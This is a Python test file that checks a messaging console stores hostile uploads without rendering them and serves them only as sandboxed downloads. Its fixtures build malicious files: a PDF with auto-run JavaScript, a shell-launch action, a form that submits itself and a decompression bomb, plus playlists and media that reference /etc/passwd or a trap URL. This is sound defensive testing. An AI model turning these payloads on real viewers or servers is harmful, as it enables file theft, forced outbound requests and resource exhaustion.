"""Files that would act on whoever renders them: nobody does here. Kept as they came, and let go for download."""

from __future__ import annotations

import asyncio
import resource
import zlib
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from console.inbox import media_files
from console.inbox.models import Media
from tests.attachments.test_bring_and_send import bring
from tests.inbox import files
from tests.inbox.test_both_ends import MARIA, Ends, both_ends
from tests.patience import eventually

MEGABYTE = 2**20


@pytest.fixture
async def ends(database_url: str, tmp_path: Path) -> AsyncIterator[Ends]:
    async with both_ends(database_url, tmp_path) as ends:
        yield ends


class Trap:
    """An address inside that a renderer which follows references would ask."""

    def __init__(self) -> None:
        self.url = ""
        self.asked = 0

    async def caught(self, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.asked += 1
        writer.close()


@asynccontextmanager
async def a_trap() -> AsyncIterator[Trap]:
    trap = Trap()
    async with await asyncio.start_server(trap.caught, "127.0.0.1", 0) as server:
        trap.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        yield trap


def a_pdf(trap: Trap) -> bytes:
    """A script, a program to launch, a form that sends itself off, a page as wide as a country, and a bomb in it."""
    bomb = zlib.compress(b"0 0 m\n" * (20 * MEGABYTE // 6), 9)
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [4 0 R 5 0 R] /AA << /WC 6 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2000000000 2000000000] /Contents 7 0 R >>",
        b"<< /S /JavaScript /JS (app.launchURL('%s', true)) >>" % trap.url.encode(),
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /S /SubmitForm /F (%s) >>" % trap.url.encode(),
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(bomb), bomb),
    )
    return b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % each for each in enumerate(objects, 1)) + b"%%EOF\n"


def a_playlist(trap: Trap) -> bytes:
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{trap.url}/x|file:///etc/passwd\n".encode()


def a_list(trap: Trap) -> bytes:
    return f"ffconcat version 1.0\nfile '/etc/passwd'\nfile '{trap.url}/y'\n".encode()


def a_film_that_names_another(trap: Trap) -> bytes:
    """An MP4 whose samples lie somewhere else, as a data reference of its own says."""
    where = b"url \x00\x00\x00\x00" + trap.url.encode() + b"\x00"
    return files.iso(b"isom") + (len(where) + 4).to_bytes(4, "big") + where


def an_animation(trap: Trap) -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><image href="%s"/></svg>' % trap.url.encode()


async def arrives(ends: Ends, name: str, mime_type: str, content: bytes) -> int:
    """María sends it; the id of the kept file."""
    sent = await ends.control.post(f"/simulator/api/personas/{MARIA}/files", files={"file": (name, content, mime_type)})
    assert sent.status_code < 300, sent.text

    async def stored() -> Any:
        async with ends.db.reading() as tx:
            return await tx.scalar(select(Media.id).where(Media.state == "stored"))

    number: int = await eventually(stored, within=20)
    return number


async def opened(ends: Ends, media_id: int) -> httpx.Response:
    return await ends.ana.http.get(f"/media/{media_id}", follow_redirects=True)


def children() -> set[str]:
    """The processes that this one has started, by number."""
    return {
        number
        for path in Path("/proc/self/task").glob("*/children")
        for number in path.read_text(encoding="ascii").split()
    }


async def test_a_pdf_that_acts_is_opened_by_nobody_here(ends: Ends) -> None:
    """M9: no page of it is drawn, no stream of it unpacked, no script of it read; whoever wants it downloads it."""
    async with a_trap() as trap:
        content = a_pdf(trap)
        before, most = children(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

        media_id = await arrives(ends, "constancia.pdf", "application/pdf", content)
        page = await ends.ana.see("/inbox/1?view=all")
        answer = await opened(ends, media_id)

        assert answer.content == content
        assert answer.headers["content-type"] == "application/pdf"
        assert answer.headers["content-disposition"].startswith("attachment;")
        assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"
        assert "constancia.pdf" in page
        assert not any(f"<{tag}" in page for tag in ("iframe", "embed", "object"))
        assert trap.asked == 0
        assert children() <= before
        assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - most < 15 * MEGABYTE // 1024, "it was unpacked"


@pytest.mark.parametrize(
    ("name", "mime_type", "made"),
    [
        ("video.mp4", "video/mp4", a_playlist),
        ("lista.m3u8", "application/vnd.apple.mpegurl", a_playlist),
        ("video.3gp", "video/3gpp", a_list),
        ("recibo.mp4", "video/mp4", a_film_that_names_another),
        ("nota.mp3", "audio/mpeg", a_list),
        ("foto.jpg", "image/jpeg", an_animation),
    ],
)
async def test_a_film_that_names_other_files_is_followed_nowhere(
    ends: Ends, name: str, mime_type: str, made: Any
) -> None:
    """M10: nothing here makes thumbnails or reads a playlist, so nothing reads a file or asks an address for one."""
    async with a_trap() as trap:
        content, before = made(trap), children()

        media_id = await arrives(ends, name, mime_type, content)
        await ends.ana.see("/inbox/1?view=all")
        answer = await opened(ends, media_id)

        assert answer.content == content
        assert b"root:" not in answer.content
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"
        if made is not a_film_that_names_another:
            assert answer.headers["content-disposition"].startswith("attachment;")
            assert answer.headers["content-type"].partition(";")[0] in {media_files.OCTETS, "text/plain"}
        assert trap.asked == 0
        assert children() <= before


@pytest.mark.parametrize(
    ("made", "status", "named"),
    [(a_playlist, 201, 'data-name="video.mp4.txt"'), (a_list, 201, 'data-name="video.mp4.txt"'),
     (an_animation, 422, '"code":"not_sendable"')],
)  # fmt: skip
async def test_nor_is_it_sent_as_a_film(ends: Ends, made: Any, status: int, named: str) -> None:
    """M10, from the agent's side: the bytes decide, not the name. Plain words go as plain words, a page not at all."""
    conversation = await ends.writes(MARIA)
    async with a_trap() as trap:
        answer = await bring(ends.ana, conversation, made(trap), "video.mp4")

        assert answer.status_code == status
        assert named in answer.text
        assert ('data-kind="document"' in answer.text) == (status == 201)
        assert trap.asked == 0
